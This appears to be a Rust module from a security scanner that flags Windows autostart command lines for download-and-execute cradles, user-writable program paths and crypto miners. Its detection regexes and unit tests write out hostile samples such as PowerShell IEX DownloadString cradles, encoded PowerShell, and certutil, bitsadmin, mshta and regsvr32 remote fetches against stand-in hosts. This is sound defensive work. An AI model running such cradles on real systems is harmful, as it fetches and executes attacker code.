//! Judging a Windows command line found where Windows starts programs by itself (a `Run` or
//! `RunOnce` value, a service's `ImagePath`, a scheduled task's action, a script in a Startup
//! folder): which program it runs and from where, and whether it fetches code and runs it.
//!
//! - **Download and execute**: the PowerShell cradles (`IEX`/`Invoke-Expression` with
//!   `DownloadString`, `Invoke-WebRequest`, `iwr`, `irm`, `Net.WebClient` or a URL), encoded
//!   PowerShell (`-enc <base64>`, which hides what runs), and the living-off-the-land
//!   downloaders (`mshta http…`, `regsvr32 /i:http…`, `certutil -urlcache`, `bitsadmin
//!   /transfer`, `rundll32 javascript:`), as detection rules for Windows persistence flag them.
//! - **User-writable directory**: the program lies where a user without administrator rights
//!   may write by default (`\Users\`, any `AppData`, `\ProgramData\` — whose default ACL lets
//!   users create files and folders — `\Windows\Temp\`, `\Windows\Tasks\`, `\Windows\Tracing\`,
//!   `\Temp\`, `\PerfLogs\`); Microsoft Defender's platform folders under ProgramData are
//!   protected and excepted. The ACLs themselves are not read (the NTFS reader does not expose
//!   security descriptors): this is the default, what PrivescCheck-style audits assume too.
//! - **Miner**: the program's file name (without `.exe`) is a known miner's, or a stratum pool
//!   URL is in the command (`miner::RULE`, critical).
//!
//! Paths are compared after expanding the usual environment variables (`%SystemRoot%`,
//! `%ProgramData%`, `%TEMP%`, `%APPDATA%`…), `\SystemRoot\` and `\??\` prefixes and the drive
//! letter, without case. A command is shown clipped, with long base64-like tokens and the
//! value after a password switch replaced, so a secret on a command line is not printed.

use super::{clip, miner};
use regex::Regex;
use std::sync::LazyLock;

/// What a command line runs and why it matters.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Judged {
    /// The program, normalized (`\windows\system32\svchost.exe`), lower case.
    pub program: String,
    /// Why it counts as download-and-execute, if it does.
    pub download: Option<&'static str>,
    /// The user-writable directory the program lies in, if it does.
    pub writable: Option<&'static str>,
    /// A miner trace: the miner's name or its pool.
    pub miner: Option<String>,
}

/// Downloaders and cradles, each with what it is called in evidence.
static DOWNLOAD: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (
            r"(?i)\b(iex|invoke-expression)\b.*(downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient|https?://)",
            "PowerShell runs downloaded code (Invoke-Expression of a download)",
        ),
        (
            r"(?i)(downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient).*\b(iex|invoke-expression)\b",
            "PowerShell runs downloaded code (a download piped into Invoke-Expression)",
        ),
        (
            r"(?i)\b(powershell|pwsh)(\.exe)?\b.*\s[-/]e(c|nc|ncodedcommand|ncod\w*)?\s+['\x22]?[A-Za-z0-9+/]{20,}={0,2}",
            "encoded PowerShell (-EncodedCommand hides what runs)",
        ),
        (
            r"(?i)\bmshta(\.exe)?\s+['\x22]?(https?|javascript|vbscript):",
            "mshta runs a remote or inline script",
        ),
        (
            r"(?i)\bregsvr32(\.exe)?\b.*[/-]i:\s*['\x22]?https?://",
            "regsvr32 runs a remote scriptlet",
        ),
        (
            r"(?i)\bcertutil(\.exe)?\b.*[-/]urlcache\b",
            "certutil downloads a file",
        ),
        (
            r"(?i)\bbitsadmin(\.exe)?\b.*[-/]transfer\b",
            "bitsadmin downloads a file",
        ),
        (
            r"(?i)\brundll32(\.exe)?\b.*javascript:",
            "rundll32 runs inline JavaScript",
        ),
        (
            r"(?i)(downloadfile|invoke-webrequest|\biwr\b|start-bitstransfer|\bcurl(\.exe)?|\bwget(\.exe)?)\b.*https?://.*(start-process|\.exe\b|\.ps1\b|\.bat\b|\.cmd\b|\.msi\b)",
            "downloads a program and runs it",
        ),
    ]
    .into_iter()
    .filter_map(|(r, why)| Some((Regex::new(r).ok()?, why)))
    .collect()
});

/// Environment variables expanded before paths are compared (lower case), and what they are on
/// a default installation (`<user>` stands for any profile).
const VARS: &[(&str, &str)] = &[
    ("%systemroot%", "\\windows"),
    ("%windir%", "\\windows"),
    ("%systemdrive%", ""),
    ("%programdata%", "\\programdata"),
    ("%allusersprofile%", "\\programdata"),
    ("%programfiles(x86)%", "\\program files (x86)"),
    ("%programfiles%", "\\program files"),
    ("%programw6432%", "\\program files"),
    ("%commonprogramfiles%", "\\program files\\common files"),
    ("%temp%", "\\users\\<user>\\appdata\\local\\temp"),
    ("%tmp%", "\\users\\<user>\\appdata\\local\\temp"),
    ("%localappdata%", "\\users\\<user>\\appdata\\local"),
    ("%appdata%", "\\users\\<user>\\appdata\\roaming"),
    ("%userprofile%", "\\users\\<user>"),
    ("%homepath%", "\\users\\<user>"),
    ("%public%", "\\users\\public"),
];

/// Directories users may write to by default, with their name in evidence.
const WRITABLE: &[(&str, &str)] = &[
    ("\\windows\\temp\\", "Windows\\Temp"),
    ("\\windows\\tasks\\", "Windows\\Tasks"),
    ("\\windows\\tracing\\", "Windows\\Tracing"),
    ("\\programdata\\", "ProgramData"),
    ("\\users\\", "a user profile"),
    ("\\temp\\", "\\Temp"),
    ("\\tmp\\", "\\tmp"),
    ("\\perflogs\\", "PerfLogs"),
];

/// Protected folders inside a writable one.
const PROTECTED: &[&str] = &[
    "\\programdata\\microsoft\\windows defender\\",
    "\\programdata\\microsoft\\windows defender advanced threat protection\\",
];

/// File name extensions that end the program in an unquoted command line.
const PROGRAM_EXT: &[&str] = &[
    ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".scr", ".dll", ".sys", ".msi", ".hta",
];

/// Judge one command line.
pub(crate) fn judge(command: &str) -> Judged {
    let program = normalize(program_of(command));
    let download = DOWNLOAD
        .iter()
        .find(|(re, _)| re.is_match(command))
        .map(|(_, why)| *why);
    let writable = writable_dir(&program);
    let name = program.rsplit('\\').next().unwrap_or(&program);
    let stem = name.strip_suffix(".exe").unwrap_or(name);
    let miner = if miner::is_miner_name(stem) {
        Some(format!("miner binary `{}`", clip(name, 40)))
    } else {
        miner::stratum_host(command.as_bytes()).map(|h| format!("stratum pool {h}"))
    };
    Judged {
        program,
        download,
        writable,
        miner,
    }
}

/// The program part of a command line: the quoted string, or up to the first known extension
/// followed by a space (an unquoted `C:\Program Files\App\app.exe -x`), or the first word.
fn program_of(command: &str) -> &str {
    let t = command.trim();
    if let Some(rest) = t.strip_prefix('"') {
        return rest.split('"').next().unwrap_or("");
    }
    let lower = t.to_ascii_lowercase();
    let mut end = None;
    for ext in PROGRAM_EXT {
        let mut from = 0;
        while let Some(i) = lower.get(from..).and_then(|s| s.find(ext)) {
            let stop = from + i + ext.len();
            let next = lower.as_bytes().get(stop);
            if next.is_none_or(|c| c.is_ascii_whitespace() || *c == b',') {
                end = Some(end.map_or(stop, |e: usize| e.min(stop)));
                break;
            }
            from = stop;
        }
    }
    let end = end.unwrap_or_else(|| t.find(char::is_whitespace).unwrap_or(t.len()));
    t.get(..end).unwrap_or(t)
}

/// A program path without case, drive or variables: `\windows\system32\x.exe`.
pub(crate) fn normalize(path: &str) -> String {
    let mut p = path
        .trim()
        .trim_matches('"')
        .to_lowercase()
        .replace('/', "\\");
    for prefix in ["\\??\\", "\\\\?\\"] {
        if let Some(rest) = p.strip_prefix(prefix) {
            p = rest.to_string();
        }
    }
    for (var, value) in VARS {
        if p.contains(var) {
            p = p.replace(var, value);
        }
    }
    if p.len() >= 2 && p.as_bytes()[1] == b':' && p.as_bytes()[0].is_ascii_alphabetic() {
        p = p.get(2..).unwrap_or("").to_string();
    }
    if let Some(rest) = p.strip_prefix("\\systemroot\\") {
        p = format!("\\windows\\{rest}");
    } else if let Some(rest) = p.strip_prefix("systemroot\\") {
        p = format!("\\windows\\{rest}");
    } else if p.starts_with("system32\\") {
        p = format!("\\windows\\{p}");
    }
    p
}

/// The user-writable directory `program` (normalized) lies in, if any.
pub(crate) fn writable_dir(program: &str) -> Option<&'static str> {
    if PROTECTED.iter().any(|d| program.starts_with(d)) {
        return None;
    }
    if program.contains("\\appdata\\") {
        return Some("AppData");
    }
    WRITABLE
        .iter()
        .find(|(d, _)| program.starts_with(d))
        .map(|(_, name)| *name)
}

/// Base64-like runs long enough to be a key or an encoded payload.
static LONG_TOKEN: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_=-]{24,}").ok());
/// A password switch and its value (`-Password x`, `/p:x`, `--password=x`, `-pw x`).
static PASSWORD: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)((?:^|\s)(?:--?|/)(?:p|pw|pass|passwd|password)(?:\s+|[:=]))("[^"]*"|'[^']*'|\S+)"#,
    )
    .ok()
});

/// A command line as shown in evidence: long tokens and password values replaced, clipped.
pub(crate) fn shown(command: &str) -> String {
    let mut s = command.trim().to_string();
    if let Some(re) = PASSWORD.as_ref() {
        s = re.replace_all(&s, "${1}***").into_owned();
    }
    if let Some(re) = LONG_TOKEN.as_ref() {
        s = re
            .replace_all(&s, |c: &regex::Captures<'_>| {
                let t = c.get(0).map_or("", |m| m.as_str());
                // A path component or a GUID-like name is not a secret; base64 is.
                if t.contains('\\') {
                    t.to_string()
                } else {
                    format!("<{} chars>", t.len())
                }
            })
            .into_owned();
    }
    clip(&s, 160)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_are_found_and_normalized() {
        let p = |c: &str| judge(c).program;
        assert_eq!(
            p(r#""C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe" -x"#),
            r"\program files\amazon\ssm\amazon-ssm-agent.exe"
        );
        assert_eq!(
            p(r"C:\Program Files\App Dir\app.exe /background"),
            r"\program files\app dir\app.exe"
        );
        assert_eq!(
            p(r"%SystemRoot%\system32\svchost.exe -k netsvcs -p"),
            r"\windows\system32\svchost.exe"
        );
        assert_eq!(
            p(r"\SystemRoot\System32\drivers\disk.sys"),
            r"\windows\system32\drivers\disk.sys"
        );
        assert_eq!(
            p(r"System32\drivers\tcpip.sys"),
            r"\windows\system32\drivers\tcpip.sys"
        );
        assert_eq!(p(r"\??\C:\Windows\x.sys"), r"\windows\x.sys");
        assert_eq!(p("rundll32.exe shell32.dll,Control_RunDLL"), "rundll32.exe");
    }

    #[test]
    fn user_writable_directories() {
        let w = |c: &str| judge(c).writable;
        assert_eq!(w(r"C:\Users\Public\svc.exe"), Some("a user profile"));
        assert_eq!(w(r"%APPDATA%\Microsoft\upd.exe"), Some("AppData"));
        assert_eq!(w(r"%TEMP%\x.exe"), Some("AppData"));
        assert_eq!(w(r"C:\ProgramData\Updater\u.exe"), Some("ProgramData"));
        assert_eq!(w(r"c:\windows\temp\a.exe"), Some("Windows\\Temp"));
        assert_eq!(w(r"%SystemRoot%\system32\svchost.exe -k x"), None);
        assert_eq!(w(r#""C:\Program Files\App\a.exe""#), None);
        assert_eq!(
            w(r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1\MsMpEng.exe""#),
            None,
            "Defender's platform folder is protected"
        );
    }

    #[test]
    fn download_and_execute_and_encoded_powershell() {
        let d = |c: &str| judge(c).download;
        assert!(
            d("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"").is_some()
        );
        assert!(d("powershell.exe iwr https://x.example/p.ps1 -UseBasicParsing | iex").is_some());
        assert!(
            d("powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=")
                .is_some()
        );
        assert!(d("mshta http://x.example/a.hta").is_some());
        assert!(d("regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll").is_some());
        assert!(d("certutil.exe -urlcache -split -f http://x.example/a.exe a.exe").is_some());
        assert!(d("bitsadmin /transfer j http://x.example/a.exe C:\\a.exe").is_some());
        // Ordinary commands.
        assert!(
            d(r"%windir%\system32\SecurityHealthSystray.exe").is_none()
                && d("powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Amazon\\EC2Launch\\x.ps1").is_none()
                && d("powershell -Command Get-Service").is_none()
        );
    }

    #[test]
    fn miners_by_name_and_pool() {
        assert!(judge(r"C:\Users\Public\xmrig.exe").miner.is_some());
        assert!(
            judge(r"C:\x\svc.exe -o stratum+tcp://pool.example.org:3333")
                .miner
                .is_some()
        );
        assert!(judge(r"C:\Windows\explorer.exe").miner.is_none());
    }

    #[test]
    fn secrets_on_a_command_line_are_not_shown() {
        let s = shown("net use Z: \\\\fs\\share /user:build /p:S3cr3t-Passw0rd");
        assert!(!s.contains("S3cr3t"), "{s}");
        let s = shown("tool.exe -Password \"Hunter 2\" -x");
        assert!(!s.contains("Hunter"), "{s}");
        let s = shown("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=");
        assert!(s.ends_with("-enc <52 chars>"), "{s}");
        assert_eq!(
            shown(r"C:\Program Files\App\app.exe /background"),
            r"C:\Program Files\App\app.exe /background"
        );
    }
}
